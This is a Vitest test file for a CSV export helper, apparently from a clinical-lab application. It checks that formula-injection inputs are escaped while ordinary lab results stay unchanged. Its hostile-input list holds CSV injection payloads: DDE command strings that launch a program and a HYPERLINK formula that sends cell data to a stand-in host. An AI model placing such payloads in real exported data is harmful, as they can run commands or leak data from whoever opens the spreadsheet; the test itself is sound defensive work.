import { describe, expect, it } from 'vitest';
import { csvLine, safeCell } from '../../server/shared/csv';

/** CWE-1236: content from laboratories and users must not run as a spreadsheet formula. */

const HOSTILE = [
  '=1+1',
  '=cmd',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '@SUM(1)',
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  '+SUM(A1:A9)',
  '-A1',
  '+A1',
  '-1+1',
  '-2 - 2',
  '-1-A1',
  '+"a"',
  '\t1',
  '\r1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＠SUM(1)',
  '＋cmd|x!A0',
];

const CLINICAL = [
  '+',
  '++',
  '+++',
  '++++',
  '+/-',
  '-/-',
  '+/+',
  '±',
  '-',
  '--',
  '---',
  '- - -',
  '-.',
  '+ / -',
  '-1.5',
  '+2',
  '-0',
  '+0.50',
  '-.5',
  '-5.',
  '-1,5',
  '-1E-05',
  '+1e3',
  '-5%',
  '-5 %',
  '-1.5 ',
  '<0.5',
  '>90',
  '1:80',
  '3+',
  '(+)',
  '10*3/uL',
  '6.90',
  '06.90',
  'neg',
  'POS',
  '5 - 10',
  '',
  ' ',
  '−2',
  "it's",
  "'quoted'",
  'a;b',
  'a, b',
  '"a"',
  'a=b',
  'a@b.example',
  'E. coli; - none',
  '2026-11-05',
  'Culture:\n- E. coli\n- Klebsiella',
  'first\tsecond',
];

describe('CSV cell', () => {
  it.each(HOSTILE.map((cell) => [JSON.stringify(cell), cell]))('%s is text', (_shown, cell) => {
    expect(safeCell(cell)).toBe(`'${cell}`);
  });

  it.each(CLINICAL.map((cell) => [JSON.stringify(cell), cell]))('%s is unchanged', (_shown, cell) => {
    expect(safeCell(cell)).toBe(cell);
    expect(csvLine([cell])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`);
  });

  it.each([
    ['1234;=1+1', "1234;'=1+1"],
    ['a; =1+1;', "a;' =1+1;"],
    ['a;"=1+1', `a;'"=1+1`],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n@SUM(1)', "a\r\n'@SUM(1)"],
    ["a;-cmd|'/C calc'!A0", "a;'-cmd|'/C calc'!A0"],
    ['a\t+SUM(A1)', "a\t'+SUM(A1)"],
    ['=a;=b', "'=a;'=b"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
  ])('%j starts no second formula: %j', (cell, expected) => {
    expect(safeCell(cell)).toBe(expected);
  });
});
